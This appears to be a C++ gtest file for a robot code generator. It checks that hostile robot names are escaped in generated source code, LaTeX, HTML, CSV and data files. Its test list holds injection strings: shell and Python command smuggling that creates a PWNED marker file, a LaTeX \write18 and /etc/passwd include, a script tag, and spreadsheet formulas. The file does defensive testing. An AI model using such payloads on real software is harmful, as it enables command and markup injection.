// What people call arms and joints goes into files of many formats: whatever it is, it stays a name
// there, and the files can be read.

#include <filesystem>
#include <fstream>
#include <regex>
#include <set>

#include <gmock/gmock.h>
#include <matio.h>
#include <yaml-cpp/yaml.h>

#include "models/ascii.h"
#include "models/code/dialect.h"
#include "models/csv/cells.h"
#include "models/csv/csv_cell.h"
#include "models/csv/table_text.h"
#include "models/files/read_file.h"
#include "models/generation/make_code.h"
#include "models/hdf5/hdf5_file.h"
#include "models/identification/identification_report.h"
#include "models/identification/identify.h"
#include "models/markup_text.h"
#include "models/mat/mat_file.h"
#include "models/motion/ros_trajectory.h"
#include "models/reproduction/line_chart.h"
#include "models/robot/robot_file.h"
#include "models/scenario/make_simulation.h"
#include "models/scenario/scenario_file.h"
#include "models/stored_run/read_run.h"
#include "models/stored_run/run_files.h"
#include "models/stored_run/write_run.h"
#include "models/utf8.h"
#include "tests/models/identification_motions.h"
#include "tests/models/language_tools.h"

namespace denavit {
namespace {

using testing::HasSubstr;
using testing::Not;
namespace fs = std::filesystem;

/// Each is an order to a program that reads some format, should the name get loose there; most of
/// them make a file named PWNED.
std::vector<std::string> listHostileNames() {
  return {
      "coding: utf-7 +AAo-import os+AAo-os.system('touch PWNED')+AAo-#",
      "coding: lab 3",
      "Coding=latin-1, vim: set fileencoding=utf-7 :",
      "-*- coding: rot13; eval: (shell-command \"touch PWNED\") -*-",
      "-*- texinfo -*- @include /etc/passwd",
      "x\nimport os; os.system('touch PWNED')\r\nsystem('touch PWNED')\fPWNED\vPWNED",
      "x\u0085PWNED\u2028PWNED\u2029PWNED",
      "ends in a backslash \\",
      "ends in a trigraph ?\?/",
      "ends in more ?\?\?\?/",
      "*/ int PWNED; /* \"it's",
      "%{ %} ... ! & # ` '",
      "''' \"\"\" \\\"\\\"\\\"; $(touch PWNED) `touch PWNED`",
      "\\write18{touch PWNED}\\input{/etc/passwd} 100 % of $x_1^2$ & ~#{}\\end{document}",
      "}}}{ \\\\ \\",
      "</title><script>alert(1)</script><!-- ]]> &amp; q1 & q2 'a' \"b\"",
      "=HYPERLINK(\"http://x/?\"&A1,\"y\"), z",
      "\x01\x02\x1b[2J\x7f",
      "\u202e\u2066 reversed \u2069\u202c \ufeff\uffff",
      "Prüfstand №4 – 机器人 😀",
      std::string("nul") + '\0' + "inside",
      std::string(3000, 'w') + " coding: utf-7",
  };
}

RobotDescription makeNamedRobot(const std::string& name) {
  RobotDescription robot = readRobot("craig-2r");
  robot.name = robot.description = robot.source = name;
  for (JointDescription& joint : robot.joints) joint.name = name;
  return robot;
}

MadeCode makeCodeIn(const std::string& language, const std::string& name, int processors = 1) {
  CodeRequest request;
  request.language = language;
  request.factoringEffort = 0;
  request.testStates = 2;
  request.processors = processors;
  return makeCode(makeNamedRobot(name), request);
}

std::vector<std::string> codeLines(const std::string& text) {
  std::vector<std::string> lines(1);
  for (const char c : text) {
    if (c == '\n') {
      lines.emplace_back();
    } else {
      lines.back() += c;
    }
  }
  return lines;
}

/// All but the comment at the top, which alone tells what the arm is called.
std::string withoutHead(const std::string& code, std::string_view comment) {
  std::string rest;
  bool isHead = true;
  for (const std::string& line : codeLines(code)) {
    isHead = isHead && line.starts_with(trimmedView(comment));
    if (!isHead) rest += line + '\n';
  }
  return rest;
}

class HostileNames : public testing::Test {
 protected:
  HostileNames() {
    fs::remove_all(folder);
    fs::create_directories(folder);
  }
  ~HostileNames() override { fs::remove_all(folder); }

  fs::path folder = fs::temp_directory_path() / ("denavit_hostile_" + std::to_string(getpid()));
};

class HostileCode : public HostileNames, public testing::WithParamInterface<Language> {};
INSTANTIATE_TEST_SUITE_P(Languages, HostileCode,
                         testing::Values(Language::C, Language::Cpp, Language::Fortran,
                                         Language::Python, Language::Matlab));

/// What reads all files of a language in a folder: a stern compiler, or the interpreter.
std::string checkLine(Language language) {
  switch (language) {
    case Language::C:
      return "cc -fsyntax-only -std=c11 -trigraphs -Wall -Werror *.c";
    case Language::Cpp:
      return "g++ -fsyntax-only -std=c++11 -trigraphs -Wall -Werror *.cpp";
    case Language::Fortran:  // NAME.F90 goes through the preprocessor of C
      return "gfortran -fsyntax-only -Wall -Werror *.f90 && "
             "for f in *.f90; do mv $f $f.F90; done && gfortran -fsyntax-only *.F90";
    case Language::Python:
      return "python3 -c \"import glob, runpy; [runpy.run_path(f) for f in glob.glob('*.py')]\"";
    default:
      return "octave --quiet --no-history --eval \"cellfun(@nargin, strrep(glob('*.m'), '.m', "
             "''))\"";
  }
}

TEST_P(HostileCode, IsReadWhateverTheArmIsCalled) {
  test::LanguageTools tools(GetParam());
  if (const std::string missing = tools.findMissing(); !missing.empty()) {
    GTEST_SKIP() << "there is no " << missing;
  }
  const LanguageEntry& entry = entryOf(GetParam());
  const std::vector<std::string> names = listHostileNames();
  CodeText text;
  for (std::size_t k = 0; k < names.size(); ++k) {
    text.code = makeCodeIn(std::string(entry.name), names[k]).text.code;
    text.fileName = "of_name_" + std::to_string(k) + std::string(entry.extension);
    tools.write(text);
  }
  text.runLine = checkLine(GetParam());
  const test::CommandEnd end = tools.run(tools.lineOf(text));
  EXPECT_EQ(end.code, 0) << end.output.substr(0, 2000);
  EXPECT_EQ(tools.run("test ! -e PWNED").code, 0) << "code in a name ran";
}

TEST_P(HostileCode, DiffersInItsHeadOnly) {
  const std::string language(entryOf(GetParam()).name);
  const std::string_view comment = dialectOf(GetParam()).comment;
  const CodeText plain = makeCodeIn(language, "arm").text;
  for (const std::string& name : listHostileNames()) {
    const CodeText text = makeCodeIn(language, name).text;
    EXPECT_EQ(withoutHead(text.code, comment), withoutHead(plain.code, comment)) << name;
    EXPECT_EQ(text.test, plain.test) << name;
    EXPECT_EQ(codeLines(text.code)[0], codeLines(plain.code)[0]) << name;
  }
}

TEST(HostileThreads, CodeInPartsDiffersInItsHeadOnly) {
  const std::string plain = withoutHead(makeCodeIn("c", "arm", 2).text.code, "//");
  for (const std::string& name : listHostileNames()) {
    EXPECT_EQ(withoutHead(makeCodeIn("c", name, 2).text.code, "//"), plain) << name;
  }
}

/// PEP 263, as the reference has it; a file that says nothing is UTF-8.
TEST(HostilePython, TheFirstLineNamesTheEncodingAndNothingBefore) {
  const std::regex declares("^[ \t\f]*#.*?coding[:=][ \t]*([-_.a-zA-Z0-9]+)");
  for (const std::string& name : listHostileNames()) {
    const std::string first = codeLines(makeCodeIn("python", name).text.code)[0];
    std::smatch found;
    ASSERT_TRUE(std::regex_search(first, found, declares)) << first;
    EXPECT_EQ(found[1], "utf-8");
  }
}

/// Commands of a LaTeX document outside of comments, and whether its braces and dollars close.
struct LatexTokens {
  std::set<std::string> commands;
  int open = 0;
  bool isMath = false;
  std::string wrong;
};
LatexTokens readLatex(const std::string& text) {
  LatexTokens tokens;
  for (std::size_t at = 0; at < text.size(); ++at) {
    const char c = text[at];
    if (c == '\\') {
      std::size_t end = ++at;
      while (end < text.size() && isLetter(text[end])) ++end;
      tokens.commands.insert(text.substr(at, std::max<std::size_t>(end - at, 1)));
      at = std::max(end, at + 1) - 1;
    } else if (c == '%') {
      at = std::min(text.find('\n', at), text.size());
    } else if (c == '{' || c == '}') {
      tokens.open += c == '{' ? 1 : -1;
      if (tokens.open < 0) tokens.wrong += "} before { ";
    } else if (c == '$') {
      tokens.isMath = !tokens.isMath;
    } else if (c == '#' || c == '~' || static_cast<unsigned char>(c) < 0x20) {
      if (c != '\n') tokens.wrong += std::string("bare ") + c + ' ';
    }
  }
  return tokens;
}

TEST(HostileLatex, HoldsNoCommandOfANameAndCloses) {
  const std::set<std::string> plain = readLatex(makeCodeIn("latex", "arm").text.code).commands;
  const std::set<std::string> signs{"backslash", "{", "}", "$", "&", "#", "%", "_", "^", "~"};
  for (const std::string& name : listHostileNames()) {
    const LatexTokens tokens = readLatex(makeCodeIn("latex", name).text.code);
    EXPECT_EQ(tokens.wrong, "") << name;
    EXPECT_EQ(tokens.open, 0) << name;
    EXPECT_FALSE(tokens.isMath) << name;
    for (const std::string& command : tokens.commands) {
      EXPECT_TRUE(plain.contains(command) || signs.contains(command)) << '\\' << command;
    }
  }
}

TEST_F(HostileNames, AreReadBackFromJsonAndYaml) {
  for (const std::string& name : listHostileNames()) {
    const RobotDescription robot = makeNamedRobot(name);
    EXPECT_EQ(parseRobot(toJson(robot), "a.json"), robot) << name;
    ScenarioDescription scenario;
    scenario.robot = robot;
    scenario.name = scenario.description = scenario.source = name;
    scenario.duration = 0.01;
    const SimulationResult result = simulate(makeSimulation(scenario));
    const YAML::Node yaml = YAML::Load(toRosTrajectory(result.recording, robot));
    ASSERT_EQ(yaml["joint_names"].size(), 2u) << name;
    EXPECT_EQ(yaml["joint_names"][0].as<std::string>(), name);
    EXPECT_EQ(yaml["points"].size(), static_cast<std::size_t>(result.recording.rowCount()));
  }
}

/// Characters one by one; what is no UTF-8 by the byte.
std::vector<std::string> charactersOf(std::string_view text) {
  std::vector<std::string> all;
  while (!text.empty()) {
    all.emplace_back(text.substr(0, std::max<std::size_t>(utf8Length(text), 1)));
    text.remove_prefix(all.back().size());
  }
  return all;
}

/// The characters of a text in a MAT-file, as the library gives them that others read it with, and
/// as many as the file says that they are.
std::vector<std::uint32_t> readMatText(const std::string& path, const char* name) {
  mat_t* file = Mat_Open(path.c_str(), MAT_ACC_RDONLY);
  matvar_t* found = file ? Mat_VarRead(file, name) : nullptr;
  std::vector<std::uint32_t> characters;
  for (std::size_t k = 0; found && k < found->dims[1]; ++k) {
    const bool isWide = found->data_type == MAT_T_UTF16;
    EXPECT_EQ(found->nbytes, found->dims[1] * (isWide ? 2 : 1));
    characters.push_back(isWide ? static_cast<const char16_t*>(found->data)[k]
                                : static_cast<const unsigned char*>(found->data)[k]);
  }
  Mat_VarFree(found);
  if (file) Mat_Close(file);
  return characters;
}

/// What a MAT-file holds of a text: "?" for what readers would count as two.
std::vector<std::uint32_t> toMatText(const std::string& text) {
  std::vector<std::uint32_t> characters;
  for (const std::string& character : charactersOf(text)) {
    const bool isOne = character.size() < 4 && utf8Length(character) > 0;
    characters.push_back(isOne ? codePointOf(character) : '?');
  }
  return characters;
}

TEST_F(HostileNames, AreReadBackFromRunsInEveryFormat) {
  for (const std::string& name : listHostileNames()) {
    ScenarioDescription scenario;
    scenario.robot = makeNamedRobot(name);
    scenario.name = scenario.description = scenario.source = name;
    scenario.duration = 0.05;
    const SimulationResult result = simulate(makeSimulation(scenario));
    for (const char* ending : {".csv", ".h5", ".mat"}) {
      if (std::string_view(ending) == ".h5" && !hasHdf5()) continue;
      const std::string path = (folder / (std::string("run") + ending)).string();
      writeRunAs(path, scenario, result);
      if (std::string_view(ending) == ".mat") {
        EXPECT_EQ(readMatText(path, "run"),
                  toMatText(toRunJson(scenario, result, folder.string())));
        continue;
      }
      const StoredRun stored = readRun(path);
      EXPECT_EQ(stored.notice, "") << ending;
      EXPECT_EQ(stored.scenario.robot, scenario.robot) << ending;
      EXPECT_EQ(stored.scenario.name, name) << ending;
    }
    const std::string table = readFile((folder / "run.csv").string());
    const std::regex identifiers("time(,[A-Za-z][A-Za-z0-9_]*)*\n");
    EXPECT_TRUE(std::regex_match(table.substr(0, table.find('\n') + 1), identifiers)) << name;
  }
}

/// A text of more bytes than characters: the library must not read on behind it.
TEST_F(HostileNames, CountCharactersInMatFiles) {
  const std::string path = (folder / "texts.mat").string();
  for (const std::string text : {"plain", "m/s²", "ключ", "a 😀", "no UTF-8 \xe2", "\xff", ""}) {
    MatFile file;
    file.add("text", text);
    std::ofstream(path, std::ios::binary) << file.finish();
    EXPECT_EQ(readMatText(path, "text"), toMatText(text)) << text;
  }
}

/// The tags of a page, in their order.
std::vector<std::string> tagsOf(const std::string& page) {
  std::vector<std::string> tags;
  for (std::size_t at = 0; (at = page.find('<', at)) != page.npos;) {
    const std::size_t end = std::min(page.find('>', at), page.size());
    tags.push_back(page.substr(at, end - at));
    at = end;
  }
  return tags;
}

TEST(HostileMarkup, PagesAndChartsHaveNoTagOfANameAndNoBareSign) {
  const RobotDescription robot = readRobot("craig-2r");
  const IdentificationResult result =
      identify(robot,
               parseMotion(test::makeMeasurement(robot, test::makePeriodicMotion(robot, 5, 3), {}),
                           "m.csv", robot),
               nullptr, {});
  const std::vector<std::string> plain =
      tagsOf(toReportPage(result, makeNamedRobot("arm"), "m.csv"));
  LineChart chart{"arm", "arm", "arm", "arm", {0, 1}, {{"arm", {0, 1}}}};
  const std::vector<std::string> drawn = tagsOf(toSvg(chart));
  const std::regex bareSign("&(?!(amp|lt|gt|quot|#39);)");
  for (const std::string& name : listHostileNames()) {
    const std::string page = toReportPage(result, makeNamedRobot(name), name);
    EXPECT_EQ(tagsOf(page), plain) << name;
    chart.title = chart.xLabel = chart.yLabel = chart.curves[0].label = name;
    const std::string picture = toSvg(chart);
    EXPECT_EQ(tagsOf(picture), drawn) << name;
    for (const std::string* text : {&page, &picture}) {
      EXPECT_FALSE(std::regex_search(*text, bareSign)) << name;
      const bool hasControls = std::ranges::any_of(*text, [](char c) {
        return (static_cast<unsigned char>(c) < 0x20 && c != '\n') || c == 0x7f;
      });
      EXPECT_FALSE(hasControls) << name;
    }
  }
}

TEST(MarkupText, EscapesWhatMarkupIsMadeOf) {
  EXPECT_EQ(toMarkupText("q1 & q2"), "q1 &amp; q2");
  EXPECT_EQ(toMarkupText("</title><script a='b' c=\"d\">"),
            "&lt;/title&gt;&lt;script a=&#39;b&#39; c=&quot;d&quot;&gt;");
  EXPECT_EQ(toMarkupText("a\x01\n\u202e\uffff\xff é"), "a  ??? é");
}

TEST(CsvCell, IsQuotedWhereItMustAndNeverAFormula) {
  for (const auto& [text, cell] : std::initializer_list<std::pair<std::string, std::string>>{
           {"q1", "q1"},
           {"", ""},
           {"a, b", "\"a, b\""},
           {"a \"b\"", "\"a \"\"b\"\"\""},
           {"a\nb", "\"a\nb\""},
           {"-1.5e-3", "-1.5e-3"},
           {"-2*q1", "'-2*q1"},
           {"=1+1", "'=1+1"},
           {"\t@SUM(A1)", "'\t@SUM(A1)"},
           {"=HYPERLINK(\"x\",\"y\")", "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\""}}) {
    EXPECT_EQ(toCsvCell(text), cell);
  }
}

TEST(SheetText, ComesBackAsItWas) {
  std::vector<std::string> texts = listHostileNames();
  texts.insert(texts.end(),
               {"", "'", "''", "'=1", "''-x", "' +1", " =1", "-1", "'-1", "@", "it's"});
  for (const std::string& text : texts) {
    EXPECT_EQ(fromSheetText(toSheetText(text)), text);
    EXPECT_FALSE(toSheetText(text).starts_with('='));
  }
}

TEST(HostileCsv, HeadsOfTablesHaveACellForEachName) {
  std::vector<std::string> names;
  for (const std::string& name : listHostileNames()) {
    if (name.find_first_of("\n\r") == name.npos) names.push_back(name);  // our reader goes by lines
  }
  std::string text;
  TableText table(names, [&](std::string_view block) { text += block; });
  std::vector<std::string_view> cells;
  const std::string head = text.substr(0, text.find('\n'));
  splitCells(head, ',', cells);
  ASSERT_EQ(cells.size(), names.size());
  for (std::size_t k = 0; k < cells.size(); ++k) {
    const std::string plain = replaceAll(std::string(cells[k]), "\"\"", "\"");
    EXPECT_FALSE(cells[k].starts_with('=')) << cells[k];
    EXPECT_EQ(trimmedView(plain.starts_with('\'') ? plain.substr(1) : plain),
              trimmedView(names[k].starts_with('\'') ? names[k].substr(1) : names[k]));
  }
}

}  // namespace
}  // namespace denavit
